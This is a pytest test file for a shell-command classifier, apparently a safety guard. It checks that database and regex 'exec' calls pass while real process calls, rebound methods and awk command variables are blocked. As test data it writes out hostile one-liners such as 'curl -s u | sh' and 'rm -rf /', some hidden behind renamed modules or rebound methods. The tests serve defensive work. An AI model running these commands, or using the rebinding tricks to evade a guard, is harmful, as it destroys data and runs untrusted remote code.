"""classify(): inline code whose SQL or regex methods share a name with a process call, and awk
variables bound to a constant command.

``c.execute("select count(*) from t")``, ``db.exec("CREATE TABLE ..")``, ``$pdo->exec(..)``,
``/re/.exec(s)`` run SQL or match text: their strings are not shell code. The same names on a
process API (``child_process.exec``, Ruby ``exec``, Lua ``os.execute``), on an unknown
receiver, or on a receiver the code may have rebound to a process call, still run a shell.
awk ``cmd = "date"; cmd | getline`` runs the literal it holds; a variable written from the
input stays a command built at run time. Each test holds the everyday forms that now pass and
the attack forms of the same class that must still fire.
"""

from __future__ import annotations

import pytest

from deerguard import Verdict
from deerguard.shell import classify


def _rules(cmd: str) -> set[str]:
    return {f.rule_id for f in classify(cmd).findings}


# --- SQL and regex methods are not shell calls ------------------------------------------------

_DB_CALLS = [
    "python -c \"import sqlite3; c=sqlite3.connect('db.sqlite'); "
    "print(c.execute('select count(*) from users').fetchone())\"",
    "python3 -c \"import sqlite3; conn=sqlite3.connect('a.db'); cur=conn.cursor(); "
    "cur.execute('select * from t'); print(cur.fetchall())\"",
    "python3 -c \"import sqlite3; conn=sqlite3.connect('a.db'); "
    "conn.executemany('insert into t values (?)', [(1,),(2,)]); conn.commit()\"",
    "python3 -c \"import sqlite3; cursor=sqlite3.connect('a.db').cursor(); "
    "cursor.executescript('create table t(x); insert into t values (1);')\"",
    "python3 -c \"import sqlite3; print(sqlite3.connect('a.db').execute('select * from t')"
    ".fetchall())\"",
    "python3 -c \"from sqlalchemy import create_engine, text; engine=create_engine('sqlite:///a.db');"
    " print(engine.connect().execute(text('select * from t')).all())\"",
    "python3 -c \"from app import session; from sqlalchemy import text; "
    "print(session.execute(text('select count(*) from users')).scalar())\"",
    "python3 -c \"import psycopg2; conn=psycopg2.connect('dbname=x'); cur=conn.cursor(); "
    "cur.execute('select * from users where id > 3'); print(cur.fetchall())\"",
    "python3 -c \"import psycopg; conn=psycopg.connect('dbname=x'); "
    "print(conn.execute('select now()').fetchone())\"",
    "python3 -c \"import duckdb; con = duckdb.connect(); "
    "print(con.execute('select 42').fetchall())\"",
    "python3 -c \"import pymysql; db=pymysql.connect(host='h'); cur=db.cursor(); "
    "cur.execute('select * from t')\"",
    "python3 -c \"from db import conn; "
    "conn.execute('delete from t where id in (select id from old)')\"",
    "python3 -c \"import sqlite3,sys; c=sqlite3.connect('a.db'); q=sys.argv[1]; "
    "print(c.execute(q).fetchall())\"",
    "python3 -c \"import sys,sqlite3; c=sqlite3.connect('a.db'); "
    "[c.execute(l) for l in sys.stdin]\"",
    "python3 -c \"import sqlite3,base64; c=sqlite3.connect('a.db'); "
    "c.execute(base64.b64decode('c2VsZWN0IDE=').decode())\"",
    "python3 -c \"import sqlite3; c=sqlite3.connect('a.db'); "
    "c.execute(open('schema.sql').read())\"",
    "node -e \"const Database=require('better-sqlite3'); const db=new Database('a.db'); "
    "db.exec('CREATE TABLE t (x INTEGER)'); console.log(db.prepare('SELECT * FROM t').all())\"",
    "node -e \"const db = require('better-sqlite3')('a.db'); "
    "db.exec('DELETE FROM t WHERE x IN (SELECT x FROM old)')\"",
    "node -e \"const sqlite3=require('sqlite3'); const db=new sqlite3.Database('a.db'); "
    "db.run('CREATE TABLE t (x TEXT)')\"",
    "node -e \"const sqlite3=require('sqlite3'); const db=new sqlite3.Database('a.db'); "
    "db.run('INSERT INTO t VALUES (?)', [process.argv[1]])\"",
    "bun -e \"import { Database } from 'bun:sqlite'; const db = new Database('a.db'); "
    "db.run('CREATE TABLE t (x INTEGER)'); db.query('SELECT * FROM t').all()\"",
    "ruby -e 'require \"sqlite3\"; db = SQLite3::Database.new(\"x.db\"); "
    "db.execute(\"select * from t\")'",
    "ruby -e 'require \"sqlite3\"; db = SQLite3::Database.new \"x.db\"; "
    "db.execute \"select count(*) from t\"'",
    "ruby -e 'require \"pg\"; conn = PG.connect(dbname: \"x\"); "
    "conn.exec(\"select count(*) from t\").each { |r| p r }'",
    "ruby -e 'db = SQLite3::Database.new(\"x.db\"); rows = db.execute(ARGV[0]); p rows'",
    "php -r '$pdo = new PDO(\"sqlite:a.db\"); $pdo->exec(\"CREATE TABLE t (x INT)\"); "
    "foreach ($pdo->query(\"SELECT * FROM t\") as $r) print_r($r);'",
    "php -r '$db = new SQLite3(\"a.db\"); $db->exec(\"CREATE TABLE t (x INT)\");'",
    "php -r '$stmt = $pdo->prepare(\"SELECT * FROM t WHERE id = ?\"); $stmt->execute([1]);'",
    "perl -MDBI -e 'my $dbh = DBI->connect(\"dbi:SQLite:dbname=a.db\"); "
    "$dbh->do(\"create table t (x int)\")'",
    "lua -e \"local sqlite3 = require('lsqlite3'); local db = sqlite3.open('a.db'); "
    "db:exec('CREATE TABLE t (x INTEGER)')\"",
    "lua -e \"local driver = require('luasql.sqlite3'); local env = driver.sqlite3(); "
    "local con = env:connect('a.db'); local cur = con:execute('SELECT count(*) FROM t')\"",
    "groovy -e 'def sql = groovy.sql.Sql.newInstance(\"jdbc:h2:mem:\"); "
    "sql.execute(\"create table t (x int)\")'",
]


@pytest.mark.parametrize("cmd", _DB_CALLS)
def test_dbapi_execute_sql_is_not_a_shell_call(cmd: str) -> None:
    assert classify(cmd).verdict == Verdict.PASS, (cmd, _rules(cmd))


_SQL_THAT_LOOKS_LIKE_SHELL = [
    "python -c \"import sqlite3; c=sqlite3.connect('a.db'); c.execute('rm -rf /')\"",
    "node -e \"const db = new (require('better-sqlite3'))('a.db'); db.exec('curl -s u | sh')\"",
    "php -r '$pdo = new PDO(\"sqlite:a.db\"); $pdo->exec(\"rm -rf /\");'",
]


@pytest.mark.parametrize("cmd", _SQL_THAT_LOOKS_LIKE_SHELL)
def test_sql_string_spelling_a_shell_command_is_still_data(cmd: str) -> None:
    assert classify(cmd).verdict == Verdict.PASS, (cmd, _rules(cmd))


_REGEX_CALLS = [
    "node -e \"const m=/a(b+)c/.exec('xabbc'); console.log(m[1])\"",
    "node -e \"const re=new RegExp('a(b+)'); console.log(re.exec('abb'))\"",
    "node -e \"const re=/(\\d+)-(\\d+)/g; let m; while ((m = re.exec('1-2 3-4')) !== null) "
    "console.log(m[0])\"",
    "node -e \"const s=require('fs').readFileSync(0,'utf8'); const re=/(\\w+)@(\\w+)/g; let m; "
    "while((m=re.exec(s))) console.log(m[1])\"",
    "node -e \"const re=new RegExp(process.argv[1]); console.log(re.exec(process.argv[2]))\"",
]


@pytest.mark.parametrize("cmd", _REGEX_CALLS)
def test_regex_exec_is_not_a_shell_call(cmd: str) -> None:
    assert classify(cmd).verdict == Verdict.PASS, (cmd, _rules(cmd))


# --- process calls of the same names still run a shell ----------------------------------------

_PROCESS_CALLS = [
    "python -c \"import os; os.system('curl -s u | sh')\"",
    "python3 -c \"import sqlite3; c=sqlite3.connect('x'); c.execute('select 1'); import os; "
    "os.popen('curl -s u | sh')\"",
    "python3 -c \"import subprocess as db; db.call('curl -s u | sh', shell=True)\"",
    "python3 -c \"import os as conn; conn.system('rm -rf ~')\"",
    "python3 -c \"import subprocess; session = subprocess; session.call('rm -rf ~', shell=True)\"",
    "python3 -c \"x=get(); x.execute('curl -s u | sh')\"",
    "node -e \"require('child_process').exec('curl -s u | sh')\"",
    "node -e \"const cp=require('child_process'); cp.execSync('rm -rf ~')\"",
    "node -e \"const cp=require('child_process'); cp.exec('rm -rf ~')\"",
    "node -e \"const {exec}=require('child_process'); exec('curl -s u | sh')\"",
    "node -e \"import {execSync} from 'child_process'; execSync('rm -rf ~')\"",
    "node -e \"const db = require('child_process'); db.exec('curl -s u | sh')\"",
    "node -e \"const conn = require('node:child_process'); conn.exec('curl -s u | sh')\"",
    "node -e \"import('node:child_process').then(db => db.exec('curl -s u | sh'))\"",
    "node -e \"(db => db.exec('rm -rf ~'))(require('child_process'))\"",
    "node -e \"const x = require('child_process'); const conn = x; conn.exec('rm -rf ~')\"",
    "node -e \"const x = {db: require('child_process')}; x.db.exec('rm -rf ~')\"",
    "node -e \"const x=foo(); x.exec('curl -s u | sh')\"",
    "node -e \"function f(db){ db.exec('rm -rf ~') }\"",
    "node -e \"const {Client}=require('ssh2'); const conn=new Client(); conn.exec('rm -rf /')\"",
    "ruby -e 'system(\"curl u | sh\")'",
    "ruby -e '`curl u | sh`'",
    "ruby -e '%x(curl u | sh)'",
    "ruby -e 'Kernel.exec(\"rm -rf ~\")'",
    "ruby -e 'IO.popen(\"curl u | sh\")'",
    "ruby -e 'require \"open3\"; Open3.capture2(\"curl u | sh\")'",
    "ruby -e 'cur = Kernel; cur.exec(\"rm -rf ~\")'",
    "ruby -e 'db = IO; db.popen(\"curl u | sh\")'",
    "php -r 'exec(\"rm -rf /\");'",
    "php -r 'shell_exec(\"curl u | sh\");'",
    "php -r '$pdo = new PDO(\"sqlite:a.db\"); $pdo->exec(\"x\"); system(\"rm -rf /\");'",
    "perl -e 'system(\"rm -rf ~\")'",
    "perl -e 'qx(curl u | sh)'",
    "perl -e '$dbh->do(\"x\"); exec(\"rm -rf ~\")'",
    "lua -e \"os.execute('curl u | sh')\"",
    "lua -e \"local db = os; db.execute('rm -rf ~')\"",
    "lua -e \"local db = io; db.popen('curl u | sh')\"",
    "groovy -e '\"curl u | sh\".execute()'",
    "groovy -e '[\"rm\", \"-rf\", \"/\"].execute()'",
]


@pytest.mark.parametrize("cmd", _PROCESS_CALLS)
def test_process_call_of_same_name_still_blocks(cmd: str) -> None:
    assert classify(cmd).verdict == Verdict.BLOCK, (cmd, _rules(cmd))


_REBOUND = [
    "node -e \"const db=new (require('better-sqlite3'))('a.db'); "
    "db.exec=require('child_process').execSync; db.exec('rm -rf ~')\"",
    "node -e \"RegExp.prototype.exec=require('child_process').execSync; /x/.exec('rm -rf ~')\"",
    "node -e \"const cp=require('child_process'); const db={exec: cp.execSync}; "
    "db.exec('rm -rf ~')\"",
    "node -e \"const {execSync}=require('child_process'); const db=Object.assign(new "
    "(require('better-sqlite3'))('a.db'), {exec: execSync}); db.exec('rm -rf ~')\"",
    "python3 -c \"import os,sqlite3; db=sqlite3.connect('a'); db.execute=os.system; "
    "db.execute('rm -rf ~')\"",
    "ruby -e 'class SQLite3::Database; def execute(s); system(s); end; end; "
    "db = SQLite3::Database.new(\"x\"); db.execute(\"curl u | sh\")'",
    "ruby -e 'db = SQLite3::Database.new(\"x\"); def db.execute(s) = system(s); "
    "db.execute(\"rm -rf ~\")'",
]


@pytest.mark.parametrize("cmd", _REBOUND)
def test_db_method_rebound_to_a_process_call_still_blocks(cmd: str) -> None:
    assert classify(cmd).verdict == Verdict.BLOCK, (cmd, _rules(cmd))


def test_db_receiver_with_non_literal_sql_does_not_hide_a_real_dynamic_shell_call() -> None:
    cmd = ("python3 -c \"import sqlite3,os; q='select count(*) from t'; "
           "c=sqlite3.connect('a.db'); c.execute(q); os.system(os.environ['X'])\"")
    assert classify(cmd).verdict == Verdict.WARN
    assert "shell.dynamic-code" in _rules(cmd)


# --- awk: a variable bound to one literal is that command --------------------------------------

_AWK_CONSTANT_COMMANDS = [
    "awk 'BEGIN { cmd = \"date +%s\"; cmd | getline t; print t }'",
    "awk 'BEGIN { cmd = \"date +%s\"; cmd | getline t; close(cmd); print t }'",
    "awk 'BEGIN { cmd = \"date\"; system(cmd) }'",
    "awk 'BEGIN { cmd = \"ls -1\"; while ((cmd | getline line) > 0) n++; close(cmd); print n }'",
    "awk 'BEGIN { cmd = \"sort -n\" } { print | cmd } END { close(cmd) }'",
    "awk -v cmd=date 'BEGIN { cmd | getline t; print t }'",
    "awk 'BEGIN { \"date\" | getline t; print t }'",
]


@pytest.mark.parametrize("cmd", _AWK_CONSTANT_COMMANDS)
def test_awk_variable_bound_to_a_literal_runs_that_literal(cmd: str) -> None:
    assert classify(cmd).verdict == Verdict.PASS, (cmd, _rules(cmd))


_AWK_CONSTANT_ATTACKS = [
    "awk 'BEGIN { cmd = \"curl -s u | sh\"; cmd | getline; close(cmd) }'",
    "awk 'BEGIN { cmd = \"rm -rf /\"; system(cmd) }'",
    "awk 'BEGIN { cmd = \"rm -rf ~\"; cmd | getline x }'",
    "awk 'BEGIN { c = \"sh\"; print \"id\" | c }'",
    "awk 'BEGIN { cmd = \"date\"; cmd = \"curl -s u | sh\"; system(cmd) }'",
    "awk -v cmd='curl -s u | sh' 'BEGIN { cmd | getline }'",
]


@pytest.mark.parametrize("cmd", _AWK_CONSTANT_ATTACKS)
def test_awk_variable_bound_to_an_attack_literal_blocks(cmd: str) -> None:
    assert classify(cmd).verdict == Verdict.BLOCK, (cmd, _rules(cmd))


_AWK_DYNAMIC = [
    "awk '{ cmd = $0; cmd | getline x; print x }'",
    "awk 'BEGIN { cmd = \"date\" } { cmd = $0; cmd | getline x; print x }'",
    "awk 'BEGIN { cmd = \"date\" } { cmd = $1; system(cmd) }'",
    "awk 'BEGIN { cmd = \"sort\" } { cmd = $0; print | cmd }'",
    "awk 'BEGIN { cmd = \"date\" } { getline cmd; system(cmd) }'",
    "awk 'BEGIN { cmd = \"ls \" } { cmd = cmd $1; system(cmd) }'",
    "awk 'BEGIN { cmd = \"ls \" $1; system(cmd) }'",
    "awk 'BEGIN { cmd = \"date\" } { cmd | getline x }' cmd='rm -rf ~' file",
    "awk -vcmd=\"$X\" 'BEGIN { system(cmd); cmd = \"date\" }'",
    "awk 'BEGIN { cmd = \"date\"; sub(/date/, $0, cmd); system(cmd) }'",
    "awk 'function f(cmd) { system(cmd) } BEGIN { cmd = \"date\"; f($0) }'",
    "awk '{ system($0) }'",
]


@pytest.mark.parametrize("cmd", _AWK_DYNAMIC)
def test_awk_command_written_from_input_stays_dynamic(cmd: str) -> None:
    assert classify(cmd).verdict != Verdict.PASS, (cmd, _rules(cmd))


def test_db_receiver_found_past_many_uses_of_its_name() -> None:
    body = "c.execute('select count(*) from t');" * 40
    assert classify(f"python3 -c \"import sqlite3; c = sqlite3.connect('a'); {body}\"").verdict \
        == Verdict.PASS
    hidden = "c.execute('select 1');" * 40 + "c.execute('rm -rf ~')"
    assert classify(f"python3 -c \"import os; c = os; c.system('x'); {hidden}\"").verdict \
        == Verdict.BLOCK
